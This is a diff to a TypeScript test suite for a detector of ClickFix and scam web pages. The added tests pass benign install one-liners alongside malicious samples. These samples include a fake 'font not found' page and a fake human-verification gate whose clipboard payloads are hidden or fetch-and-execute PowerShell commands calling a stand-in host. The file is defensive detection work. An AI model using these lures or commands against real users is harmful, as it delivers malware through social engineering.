@@ -581,6 +581,18 @@ describe('analysis: signal rules', () => {
       assert.deepEqual(ru.categories.slice(0, 1), ['clickfix']);
     });
 
+    it('ClickFix in the browser: a copied command decides beside a human check or Run steps, not alone (documentation copy buttons copy one-liners too)', () => {
+      const docs = judge('https://brewline.example/', '<h1>Install Brewline</h1><code id="i">/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"</code><button data-copy="i">Copy</button><p>Paste that in a macOS Terminal.</p>', { clipboardWrites: ['/bin/bash -c "$(curl -fsSL https://raw.example.org/install.sh)"'] });
+      assert.ok(ids(docs).includes('clipboard-shell-command'));
+      clean(docs);
+      const scoop = judge('https://get.scoopline.example/', '<h1>Install Scoopline</h1><p>Open PowerShell (not as admin), paste the command and press Enter:</p><code id="c">irm get.scoopline.example | iex</code><button data-copy="c">Copy</button>', { clipboardWrites: ['irm get.scoopline.example | iex'] });
+      clean(scoop);
+      const font = judge('https://dental-blog.example/post', `<h1>The "HoeflerText" font wasn't found</h1><p>Right-click the Windows icon, select Windows PowerShell (Admin), paste the copied code and press Enter.</p><script>fix.onclick=function(){navigator.clipboard.writeText('powershell -NoP -W Hidden -enc ' + p)}</script>`);
+      assert.ok(font.decidedBy?.includes('combo:clickfix-pretext'));
+      const gate = judge('https://gate.example/', '<h1>Verify you are human</h1><div id="b">I am not a robot</div>', { clipboardWrites: ['powershell -w h -c "iex(irm https://gate.example/a)"'] });
+      assert.ok(gate.decidedBy?.includes('combo:clickfix'));
+    });
+
     const clickfixLookalikes: [string, string, string][] = [
       ['a challenge page copying its Ray ID', 'https://forum.example.org/cdn-cgi/challenge', `<title>Just a moment...</title><h2>Verify you are human by completing the action below.</h2><p>Ray ID: <code>8f3a1c29be7d41e2</code> <button id="c">Copy</button></p><script>var ray='8f3a1c29be7d41e2';c.onclick=function(){navigator.clipboard.writeText(ray)}</script>`],
       ['a paste site with a captcha and a copy button for the paste', 'https://paste.example.net/new', `<h1>New paste</h1><textarea id="paste"></textarea><div class="g-recaptcha"></div><p>I'm not a robot</p><button onclick="navigator.clipboard.writeText(document.getElementById('paste').value)">Copy</button>`],
@@ -610,6 +622,7 @@ describe('analysis: signal rules', () => {
       ['an ISP support page offering remote help', 'https://www.kestrelnet.example/help/remote', '<h1>Remote support</h1><p>Our technician may ask you to install TeamViewer QuickSupport and tell them your ID, so they can see your screen.</p><p>Call technical support: 0330 088 4141.</p>'],
       ['an Italian device-support page with a freephone number', 'https://assistenza.lumetra.example/contatti', '<title>Contatta l\'assistenza | Lumetra</title><h1>Contatta l\'assistenza</h1><p>Chiama l\'assistenza tecnica: 800 912 480 (numero verde), lun–sab 9–19.</p>'],
       ['a savings account with a guaranteed rate and a minimum deposit', 'https://www.banque-exemple.fr/epargne/livret', '<h1>Livret Épargne Plus</h1><p>Rendement garanti de 3 % par an. Dépôt minimum de 10 €. Votre épargne reste disponible à tout moment.</p>'],
+      ['a robo-advisor whose algorithm invests automatically, with a minimum investment', 'https://www.steadyfolio.example/how-it-works', '<h1>Investing, done for you</h1><p>Our algorithm invests your money automatically in a diversified portfolio and rebalances it for you. Minimum investment of £500. Capital at risk: the value of investments can go down as well as up.</p>'],
       ['a regulated broker with its risk warning', 'https://www.albion-markets.example/cfds', '<p>CFDs are complex instruments: 71% of retail investor accounts lose money.</p><h1>Trade CFDs on 10,000 markets</h1><p>No guaranteed returns: past performance is not a reliable indicator. Open an account or try the demo.</p>'],
     ];
     for (const [what, url, body] of scamLookalikes) it(`stays clean: ${what}`, () => clean(judge(url, body)));
